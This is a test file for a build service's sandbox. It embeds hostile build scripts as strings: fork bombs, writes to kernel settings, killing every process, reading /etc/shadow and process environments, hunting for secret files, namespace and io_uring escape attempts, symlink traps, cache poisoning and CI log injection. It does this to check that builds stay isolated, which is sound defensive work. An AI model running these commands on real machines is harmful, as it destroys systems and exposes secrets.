import { randomBytes } from "node:crypto";
import {
  existsSync,
  lstatSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  watch,
  writeFileSync,
} from "node:fs";
import { type AddressInfo, createServer, type Server } from "node:net";
import { homedir, networkInterfaces, tmpdir, totalmem } from "node:os";
import { join } from "node:path";
import { afterEach, expect, test, vi } from "vitest";
import type { ControlGroups } from "../../../packages/service/pipeline/sandbox/cgroup.ts";
import { type BuildFixture, running } from "./build-fixture.ts";
import { startBuilds } from "./setup.ts";

// One repository that tries at once what was ever seen to reach the machine, beside and before honest builds. What the
// machine is afterwards is compared with what it was.

const MARK = `mark-${randomBytes(8).toString("hex")}`;
const SECRET = `value-${randomBytes(8).toString("hex")}`;
const ABSTRACT = `greenroom-${MARK}`;
const SLEEPER = `sleep 7731.${process.pid}`;
const MEBIBYTE = 1024 ** 2;
const PLACES = ["/", "/etc", "/tmp", "/var/tmp", "/dev/shm", "/run", "/opt", "/usr/local/bin", homedir()];

/** What only the checkout of another build holds. */
const NEIGHBOUR = `neighbour-${randomBytes(8).toString("hex")}`;

let fixture: BuildFixture;
let builds: string;
const servers: Server[] = [];

/** Listens where no build may reach. */
async function listen(where: { readonly port: number } | { readonly path: string }): Promise<Server> {
  const server = createServer((socket) => socket.on("error", () => {}).end(SECRET));
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(where, resolve));
  return server;
}

async function open(groups?: ControlGroups): Promise<void> {
  builds = mkdtempSync(join(tmpdir(), "builds-"));
  fixture = await startBuilds({
    settings: { unsafeNoSandbox: false, buildsDirectory: builds },
    environment: { ...process.env, GREENROOM_CANARY: SECRET },
    concurrency: 2,
    ...(groups && { groups }),
    limits: { memoryBytes: 512 * MEBIBYTE, diskBytes: 300 * MEBIBYTE, processes: 100, buildMs: 120_000 },
  });
  for (const name of ["canary.txt", "seal.key"])
    writeFileSync(join(fixture.context.settings.dataDirectory, name), SECRET);
}

afterEach(async () => {
  await fixture.close();
  for (const server of servers.splice(0)) server.close();
  rmSync(builds, { recursive: true, force: true });
});

/** The newest process id, and what the kernel lowers where its own measuring takes long. */
const CHANGES_BY_ITSELF = new Set(["ns_last_pid", "perf_event_max_sample_rate"]);

/** Every setting of the kernel that can be written, but for those that change by themselves. */
function kernelSettings(): Readonly<Record<string, string>> {
  const found: Record<string, string> = {};
  const look = (folder: string): void => {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name);
      try {
        if (entry.isDirectory()) look(path);
        else if ((statSync(path).mode & 0o222) !== 0 && !CHANGES_BY_ITSELF.has(entry.name))
          found[path] = readFileSync(path, "utf8");
      } catch {
        found[path] = "not readable";
      }
    }
  };
  look("/proc/sys");
  return found;
}

/** The files below a folder with size and time; an ordinary account cannot read every folder. */
function filesBelow(folder: string): string[] {
  try {
    return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) return filesBelow(path);
      const { size, mtimeMs } = lstatSync(path);
      return [`${path} ${size} ${mtimeMs}`];
    });
  } catch {
    return [`${folder} is not readable`];
  }
}

/** What of the machine no build may change. */
function machine() {
  return {
    settings: kernelSettings(),
    mounts: readFileSync("/proc/self/mountinfo", "utf8").split("\n").toSorted(),
    etc: filesBelow("/etc"),
    marked: PLACES.filter((place) => existsSync(join(place, MARK))),
    processes: running(SLEEPER),
  };
}

/** Tries each kind of harm, all of them at the same time, and then floods its log; what ends itself only with `all`. */
const HOSTILE = `
import { spawn } from "node:child_process";
import { appendFileSync, linkSync, mkdirSync, readdirSync, statSync, watch, writeFileSync } from "node:fs";
import { join } from "node:path";
const all = process.argv[2] === "all";
const attempt = (what) => { try { what(); } catch {} };
const sh = (script) => spawn("/bin/sh", ["-c", script], { stdio: "ignore", detached: true }).on("error", () => {}).unref();

const writeBelow = (folder, text) => attempt(() => {
  for (const entry of readdirSync(folder, { withFileTypes: true })) {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) writeBelow(path, text);
    else attempt(() => writeFileSync(path, text));
  }
});
for (const folder of ["/proc/sys", "/sys/fs/cgroup", "/sys/kernel", "/proc/1", "/proc/irq"]) writeBelow(folder, "1");
for (const file of ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname"])
  attempt(() => writeFileSync(file, "|/bin/${MARK}"));
for (const place of ${JSON.stringify(PLACES)}) attempt(() => writeFileSync(join(place, "${MARK}"), "x"));

sh("mount -t tmpfs none /mnt; mount --bind / /build; umount -l /proc; unshare -Urm sh -c 'mount -t proc proc /proc; echo 1 > /proc/sys/vm/drop_caches'");
sh("for i in $(seq 200); do perl -e 'syscall(248, q(user), q(k) . $_, q(v) x 100, 100, -3) for 1..200'; done");
sh("for n in $(seq " + (all ? 400 : 10) + "); do ${SLEEPER} & setsid ${SLEEPER} & done");
if (all) sh("for pid in $(ls /proc | grep '^[0-9]'); do kill -STOP $pid; kill -9 $pid; done 2>/dev/null");

const watchers = [];
attempt(() => { for (let n = 0; n < 4000; n += 1) watchers.push(watch("/build").on("error", () => {})); });

// What a later build of the branch would run.
for (const place of ["/cache", "/tools", "/opt/tools", process.env.HOME]) {
  attempt(() => mkdirSync(join(place, "npm/_cacache/tmp"), { recursive: true }));
  attempt(() => writeFileSync(join(place, "npm/_cacache/${MARK}"), "${MARK}"));
  attempt(() => mkdirSync(join(place, "yarn"), { recursive: true }));
  attempt(() => writeFileSync(join(place, "yarn/${MARK}"), "${MARK}"));
}

mkdirSync("out", { recursive: true });
writeFileSync("out/index.html", "an honest page");
writeFileSync("out/_headers", "/*\\n  CDN-Cache-Control: public\\n  Surrogate-Control: max-age=9\\n  Set-Cookie: a=b\\n  Server: x\\n  X-Robots-Tag: all\\n");
const line = "\\r::add-mask::x\\r::error::" + process.env.GREENROOM_CANARY + "\\r\\u001b[2J";
for (let n = 0; n < 200_000; n += 1) process.stdout.write(n % 1000 === 0 ? "x".repeat(20_000) + line : line + "\\n");
process.exit(0);
`;

/** Searches every place for what it must not see, and writes what it found into the output and the log. */
function lookAround(port: number): string {
  const addresses = Object.values(networkInterfaces()).flatMap((each = []) => each);
  const own = addresses.filter(({ family }) => family === "IPv4").map(({ address }) => address);
  const urls = [...new Set(["127.0.0.1", "[::1]", ...own])].map((host) => `http://${host}:${port}/`);
  return `
import { execFileSync } from "node:child_process";
import { readFileSync, mkdirSync, writeFileSync, readdirSync } from "node:fs";
import { connect } from "node:net";
mkdirSync("out", { recursive: true });
const found = [];
const note = (what, text) => found.push(what + ": " + String(text));
const files = ["/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/proc/self/environ", "/etc/passwd", "/etc/shadow", "/etc/hosts"];
for (const pid of readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name))) files.push("/proc/" + pid + "/environ", "/proc/" + pid + "/cmdline");
for (const file of files) try { note(file, readFileSync(file, "latin1")); } catch {}
const run = (label, script) => { try { note(label, execFileSync("/bin/sh", ["-c", script], { stdio: ["ignore", "pipe", "pipe"], timeout: 20000 })); } catch (error) { note(label, error.stderr ?? error); } };
run("files", "find / -xdev \\\\( -name '*.db' -o -name 'seal.key' -o -name 'secrets.json' -o -name canary.txt \\\\) -exec cat {} + 2>/dev/null | head -c 100000");
run("folders", "ls -la / /root /home /var/tmp /tmp /run /opt /build/.. 2>&1");
run("namespaces", "unshare -Ur cat /proc/self/status; unshare -Urm mount -t tmpfs none /mnt && echo escaped-by-mount");
run("calls", "perl -e 'print syscall(425, 8, 0) >= 0 ? qq(escaped-by-io-uring) : qq(no)'");
run("pid 1", "kill -STOP 1; nsenter -t 1 -m echo escaped-by-nsenter");
const reach = "await Promise.all(JSON.parse(process.argv[1]).map((url) => fetch(url, { signal: AbortSignal.timeout(3000) }).then((r) => r.text()).then(console.log, (e) => console.log(e.message))))";
for (const environment of [process.env, { PATH: process.env.PATH }])
  try { note("network", execFileSync(process.execPath, ["--input-type=module", "-e", reach, ${JSON.stringify(JSON.stringify(urls))}], { env: environment })); } catch (error) { note("network", error.stderr); }
await new Promise((resolve) => { const socket = connect({ path: "\\0${ABSTRACT}" }, () => { socket.end(); note("abstract", "escaped-by-abstract-socket"); resolve(); }); socket.on("error", resolve); });
console.log(found.join("\\n"));
`;
}

/** Leaves behind whatever could make the service read, publish or never delete something else. */
const TRAPS = `
mkdir -p out/deep
ln -s /proc/self/root out/rootlink; ln -s / out/deep/host
mkfifo out/pipe; ln /etc/passwd out/hard 2>/dev/null
mkdir -p out/closed/inside; chmod 000 out/closed
node -e '
const { mkdirSync } = require("node:fs");
process.chdir("out"); const name = "n".repeat(200);
for (let depth = 0; depth < 40; depth += 1) { mkdirSync(name); process.chdir(name); }' 2>/dev/null
cd "$OLDPWD"; mv out moved; ln -s / out
`;

/** Takes all it can get of memory, processes, disk and processor time, hidden from a walk over names. */
const BOMBS = `
for n in 1 2 3 4; do (while :; do :; done) & done
node -e '
const { openSync, unlinkSync, writeSync } = require("node:fs");
const fd = openSync("hidden", "w"); unlinkSync("hidden"); const bytes = Buffer.alloc(1 << 20, 7);
for (;;) writeSync(fd, bytes);' &
node -e 'const a = []; for (;;) a.push(Buffer.alloc(1 << 24, 1))' &
sh -c 'f() { f | f & }; f' 2>/dev/null
wait
`;

const HARMS = {
  "every kind of harm": "node hostile.mjs all",
  "what it survives": "node hostile.mjs",
  "to take all there is, and to leave traps": "sh take.sh",
};

const manifestOf = (harm: keyof typeof HARMS) => {
  const command = HARMS[harm];
  return JSON.stringify({ installCommand: `node look.mjs; ${command}; true`, buildCommand: command, output: "out" });
};
const after = {
  installCommand: `cat $(find /cache /tools /tmp -type f 2>/dev/null) /dev/null | grep -c ${MARK} || true`,
  buildCommand: "mkdir -p out; echo clean > out/index.html",
  output: "out",
};

const NO_GROUPS: ControlGroups = {
  bounds: new Set(),
  ceiling: { memoryBytes: totalmem(), tasks: 10_000 },
  open: async () => undefined,
};

test.each([
  ["every kind of harm", "failed", "the control groups of the machine", undefined],
  ["what it survives", "ready", "the control groups of the machine", undefined],
  ["to take all there is, and to leave traps", "failed", "the control groups of the machine", undefined],
  ["every kind of harm", "failed", "no control group", NO_GROUPS],
  ["what it survives", "ready", "no control group", NO_GROUPS],
] as const)(
  "trying %s ends as %s in %s, and leaves the machine and later builds as they were",
  async (harm, end, _, groups) => {
    await open(groups);
    const service = await listen({ port: 0 });
    await listen({ path: `\0${ABSTRACT}` });
    const { port } = service.address() as AddressInfo;
    const before = machine();
    const workspaceId = await fixture.workspace();
    const { path, url } = fixture.repository({
      "look.mjs": lookAround(port),
      "hostile.mjs": HOSTILE,
      "take.sh": `${TRAPS}${BOMBS}`,
      "greenroom.json": manifestOf(harm),
    });
    const siteId = await fixture.site(workspaceId, url);
    // It is there while the other one looks around.
    const wait = "node -e 'setTimeout(() => {}, 1500)'";
    const neighbour = { buildCommand: `mkdir out; ${wait}; cp index.md out/index.html`, output: "out" };
    const other = fixture.repository({ "index.md": NEIGHBOUR, "greenroom.json": JSON.stringify(neighbour) });
    const otherSite = await fixture.siteOf(other.url);
    const bad = await fixture.accept(siteId, { branch: "main" });
    await fixture.until(bad, ({ status }) => status !== "queued");
    const beside = await fixture.built(otherSite);
    const row = await fixture.ended(bad);
    expect([beside.status, beside.error_message]).toEqual(["ready", null]);
    expect([row.status, row.error_message]).toEqual([end, end === "ready" ? null : expect.any(String)]);
    expect(row.error_code).not.toBe("internal_error");
    if (row.status === "ready") {
      const page = await fixture.get(row.preview_label ?? "", "/");
      expect(page.text).toBe("an honest page");
      for (const name of ["cdn-cache-control", "surrogate-control", "set-cookie"])
        expect(page.headers).not.toHaveProperty(name);
    }
    const seen = [...(await fixture.logLines(bad)), row.error_message].join("\n");
    const { dataDirectory } = fixture.context.settings;
    for (const each of [SECRET, NEIGHBOUR, "escaped-by-", dataDirectory, "\r"]) expect(seen).not.toContain(each);

    fixture.commit(path, { "greenroom.json": JSON.stringify(after) });
    const next = await fixture.built(siteId, { branch: "main" });
    expect([next.status, next.error_message]).toEqual(["ready", null]);
    expect(await fixture.logLines(next.id)).toContain("install: 0");

    await vi.waitUntil(() => readdirSync(join(builds, "builds")).length === 0, { timeout: 60_000 });
    expect(machine()).toEqual(before);
    // The kernel counts these by account.
    watch(builds).close();
  },
);
